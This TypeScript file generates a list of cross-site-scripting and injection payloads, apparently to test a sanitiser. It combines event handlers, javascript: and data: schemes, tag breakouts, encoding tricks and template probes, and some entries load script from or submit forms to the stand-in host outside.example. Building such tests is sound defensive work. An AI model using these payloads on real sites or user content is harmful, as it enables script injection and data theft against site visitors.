/** Ways to smuggle a script or a request into a page. Each sets `window.pwned` or calls out. */

const HOST = 'https://outside.example';
const DO = 'window.pwned=1';

const events = [
	'onerror',
	'onload',
	'onclick',
	'onmouseover',
	'onfocus',
	'onanimationstart',
	'ontoggle',
	'onpageshow',
];
const elements = [
	'img src=x',
	'svg',
	'body',
	'video src=x',
	'details open',
	'input autofocus',
	'iframe',
];

const schemes = [
	`javascript:${DO}`,
	`JaVaScRiPt:${DO}`,
	`java\tscript:${DO}`,
	`java\nscript:${DO}`,
	` javascript:${DO}`,
	`\u0001javascript:${DO}`,
	`javascript&colon;${DO}`,
	`data:text/html,<script>${DO}</script>`,
	`vbscript:${DO}`,
	`blob:${HOST}/x`,
	`file:///etc/hosts`,
];

const breakouts = [
	'',
	'"',
	"'",
	'`',
	'">',
	"'>",
	'</textarea>',
	'</title>',
	'</style>',
	'</pre>',
	'-->',
	'</script>',
	']]>',
];

const markup = [
	`<script>${DO}</script>`,
	`<ScRiPt>${DO}</sCrIpT>`,
	`<script src="${HOST}/x.js"></script>`,
	`<img src="${HOST}/x.png">`,
	`<link rel="stylesheet" href="${HOST}/x.css">`,
	`<meta http-equiv="refresh" content="0;url=${HOST}">`,
	`<base href="${HOST}/">`,
	`<form action="${HOST}"><button>Approve</button></form>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<object data="${HOST}/x"></object>`,
	`<embed src="${HOST}/x">`,
	`<style>@import url(${HOST}/x.css);*{background:url(${HOST}/y)}</style>`,
	`<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
	`<math><mtext><img src=x onerror=${DO}></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
	`<template><script>${DO}</script></template>`,
	`<marquee onstart=${DO}>`,
	`<details open ontoggle=${DO}><summary>x</summary></details>`,
	`<svg><use href="data:image/svg+xml,<svg onload=${DO}>"></use></svg>`,
	`<button formaction="javascript:${DO}">x</button>`,
	`<a href="javascript:${DO}">x</a>`,
	`{{constructor.constructor('${DO}')()}}`,
	'={{ $json.secret }}',
	'${7*7}',
	'<%= 7*7 %>',
	`<plaintext>`,
	`<!--<img src="--><img src=x onerror=${DO}>">`,
	`\u003cscript\u003e${DO}\u003c/script\u003e`,
	`%3Cscript%3E${DO}%3C/script%3E`,
	`&lt;script&gt;${DO}&lt;/script&gt;`,
	`&#60;script&#62;${DO}&#60;/script&#62;`,
	`\u202e<script>${DO}</script>`,
	`<\u0000script>${DO}</script>`,
];

/** At least two hundred. */
export function injections(): string[] {
	return [
		...markup,
		...markup.map((text) => `"'>${text}`),
		...schemes.flatMap((scheme) => [
			`[Click here](${scheme})`,
			`![image](${scheme})`,
			`<${scheme}>`,
			`"><a href="${scheme}">x</a>`,
		]),
		...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${DO}>`)),
		...breakouts.flatMap((end) => [
			`${end}<script>${DO}</script>`,
			`${end} onfocus=${DO} autofocus x=`,
			`${end}<img src=x onerror=${DO}>`,
		]),
	];
}
